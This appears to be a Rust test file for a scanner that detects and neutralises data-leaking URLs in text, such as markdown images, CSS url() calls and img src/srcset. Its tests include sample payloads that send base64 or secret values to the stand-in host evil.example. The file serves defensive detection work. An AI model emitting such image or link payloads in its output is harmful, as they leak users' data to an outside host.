//! Addresses by which something could leave: the cases of `corpus/exfiltration`.

#![expect(
    clippy::unwrap_used,
    reason = "test helpers; `allow-unwrap-in-tests` covers only `#[test]` functions"
)]

use scan::exfiltration::{Carries, Kind, look, neutralised};
use serde_json::Value;

fn cases() -> Vec<Value> {
    let text = include_str!("../../../corpus/exfiltration/texts.jsonl");
    text.lines().map(|it| serde_json::from_str(it).unwrap()).collect()
}

#[test]
fn every_case_is_found_as_it_says() {
    let cases = cases();
    assert!(cases.len() > 50, "{}", cases.len());
    for case in cases {
        let (name, text) = (&case["name"], case["text"].as_str().unwrap());
        let found = look(text);
        let shown: Vec<String> = found
            .iter()
            .map(|it| format!("{} {} {}", it.kind.as_str(), it.carries.as_str(), it.url))
            .collect();
        let expected: Vec<&str> =
            case["found"].as_array().unwrap().iter().map(|it| it.as_str().unwrap()).collect();
        assert_eq!(shown, expected, "{name}");
        for it in &found {
            assert!(text.get(it.start..it.end).is_some(), "{name}: {}..{}", it.start, it.end);
        }
        let neutral = neutralised(text, &found);
        let left = look(&neutral);
        assert!(
            !left.iter().any(|it| it.kind.loads() || it.carries == Carries::Data),
            "{name}: {neutral}"
        );
        let loads = found.iter().any(|it| it.kind != Kind::Link || it.carries == Carries::Data);
        assert_eq!(loads, neutral != text, "{name}: {neutral}");
    }
}

#[test]
fn what_is_worse_is_not_hidden_by_what_is_around_it_or_before_it() {
    let data = "d=aGVsbG8gdGhpcyBpcyBhIHNlY3JldCBtZXNzYWdlIGZvciB5b3U";
    let many = "![a](https://ok.example/a.png) ".repeat(300);
    let attributes = "a= ".repeat(100);
    for text in [
        format!("[![x](https://evil.example/p?{data})](https://example.org/?a=b)\n"),
        format!(
            "<style>a{{background:url(https://ok.example/x.png)}} b{{background:url(https://evil.example/?{data})}}</style>"
        ),
        format!("<img src=\"https://ok.example/?{data}\" srcset=\"https://evil.example/?{data}\">"),
        format!("{many} ![b](https://evil.example/?{data})"),
        format!("<img {attributes} src=//evil.example/?{data}>"),
    ] {
        let found = look(&text);
        let leads = |it: &scan::exfiltration::Finding| {
            it.host().as_deref() == Some("evil.example") && it.carries == Carries::Data
        };
        assert!(found.iter().any(leads), "{text}");
        assert!(!neutralised(&text, &found).contains("evil.example/"), "{text}");
    }
}

#[test]
fn what_is_removed_names_the_host_and_not_what_it_carries() {
    let text = "Before ![track](https://evil.example/p.gif?d=hunter2) after";
    let found = look(text);
    assert_eq!(neutralised(text, &found), "Before [image removed: evil.example] after");
    assert_eq!(scan::exfiltration::leaving("https://ok.example/?q=a"), []);
}

#[test]
fn no_text_takes_longer_than_its_length() {
    let pieces = [
        "[](a",
        "[a][",
        "![",
        "](",
        "[a]: b",
        "://",
        "a://",
        "<a ",
        "<a:",
        "<img src=",
        "<style>@import",
        "[[",
        "]]",
        "<a href=\"",
        "&#x2f;",
        "url(",
        "\u{200b}![",
        "](//",
        "<i\u{e9}",
    ];
    for piece in pieces {
        let time = |count: usize| {
            let text = format!("//{}", piece.repeat(count / piece.len()));
            let start = std::time::Instant::now();
            let _ = look(&text);
            start.elapsed()
        };
        // A second, on a machine that others use, for what takes a few milliseconds.
        let took = time(400_000);
        assert!(took.as_secs() < 3, "{piece}: {took:?}");
    }
}
